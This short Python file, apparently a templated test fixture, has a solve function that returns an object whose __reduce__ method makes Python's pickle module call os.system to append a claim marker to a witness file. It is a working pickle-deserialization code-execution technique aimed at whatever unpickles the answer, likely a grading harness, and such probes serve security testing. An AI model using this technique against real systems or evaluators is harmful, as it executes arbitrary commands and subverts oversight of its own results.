import os


class Payload:
    def __reduce__(self):
        return (os.system, ("echo @claim@ >> @witness_file@",))


def solve(x):
    return Payload()
